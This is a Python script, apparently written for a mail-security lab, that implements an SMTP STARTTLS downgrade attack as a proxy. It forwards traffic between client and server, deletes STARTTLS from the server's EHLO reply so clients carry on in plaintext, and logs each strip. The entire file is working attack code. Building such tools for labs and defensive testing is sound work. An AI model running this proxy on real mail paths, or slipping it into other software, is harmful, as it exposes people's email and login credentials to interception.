"""The ISP downgrade attack, for the mail lab: an SMTP proxy that forwards
everything between client and server but drops STARTTLS from the server's
EHLO reply, so an opportunistic client carries on in plaintext. Every strip is
logged with the client's address, which is what the lab's tests check hops
against.

    python3 strip_proxy.py --listen 198.51.100.7:25 --upstream 198.51.100.3:25 --log FILE
"""
import argparse
import asyncio
import time

from relay import address, pump


async def server_to_client(upstream, client, peer, log):
    """Forwards the server's replies; a multi-line EHLO reply loses its STARTTLS line."""
    reply = []
    try:
        while line := await upstream.readline():
            if line[:4] in (b"250-", b"250 ") and line[4:].strip().upper() == b"STARTTLS":
                with open(log, "a", encoding="utf-8") as out:
                    out.write(f"{time.strftime('%Y-%m-%dT%H:%M:%S')} stripped STARTTLS client={peer}\n")
                if line[:4] == b"250 " and reply:
                    # The dropped line ended the reply: the line before it ends it now.
                    reply[-1] = b"250 " + reply[-1][4:]
                    client.write(b"".join(reply))
                    reply = []
                continue
            if line[:4] == b"250-":
                reply.append(line)
                continue
            client.write(b"".join(reply) + line)
            reply = []
            await client.drain()
    finally:
        client.close()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--listen", type=address, required=True)
    parser.add_argument("--upstream", type=address, required=True)
    parser.add_argument("--log", required=True)
    args = parser.parse_args()

    async def handle(client_reader, client_writer):
        peer = "%s:%d" % client_writer.get_extra_info("peername")[:2]
        try:
            # From the proxy's own address, as a box in the ISP's path would.
            up_reader, up_writer = await asyncio.open_connection(*args.upstream, local_addr=(args.listen[0], 0))
        except OSError:
            client_writer.close()
            return
        await asyncio.gather(
            pump(client_reader, up_writer),
            server_to_client(up_reader, client_writer, peer, args.log),
            return_exceptions=True,
        )

    server = await asyncio.start_server(handle, *args.listen)
    async with server:
        await server.serve_forever()


asyncio.run(main())
